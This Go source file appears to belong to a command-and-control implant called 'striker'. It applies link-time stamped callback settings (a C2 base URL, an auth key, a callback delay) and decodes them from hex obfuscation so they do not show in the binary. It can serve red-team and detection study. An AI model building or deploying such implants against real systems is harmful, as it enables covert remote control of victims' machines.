package cmd

import (
	"fmt"
	"strconv"

	"striker/config"
	"striker/internal/obfs"
)

// Link-time stamped values:
//
//	go build -ldflags "-X striker/cmd.baseURL=https://c2:8443 -X striker/cmd.authKey=…"
//
// When obfsKey is stamped the other three hold obfs.EncodeHex output.
var (
	baseURL       string //nolint:gochecknoglobals
	authKey       string //nolint:gochecknoglobals
	callbackDelay string //nolint:gochecknoglobals
	obfsKey       string //nolint:gochecknoglobals
)

// applyStamped overlays the stamped values onto cfg.
func applyStamped(cfg *config.Config) error {
	url, key, delay := baseURL, authKey, callbackDelay

	if obfsKey != "" {
		k, err := obfs.ParseKey(obfsKey)
		if err != nil {
			return err
		}
		cfg.ObfsKey = obfsKey
		for _, v := range []*string{&url, &key, &delay} {
			if *v == "" {
				continue
			}
			if *v, err = obfs.DecodeHex(k, *v); err != nil {
				return fmt.Errorf("stamped value: %w", err)
			}
		}
	}

	if url != "" {
		cfg.BaseURL = url
	}
	if key != "" {
		cfg.AuthKey = key
	}
	if delay != "" {
		n, err := strconv.Atoi(delay)
		if err != nil || n < 1 {
			return fmt.Errorf("stamped callback delay %q is not a positive integer", delay)
		}
		cfg.Delay = n
	}
	return nil
}
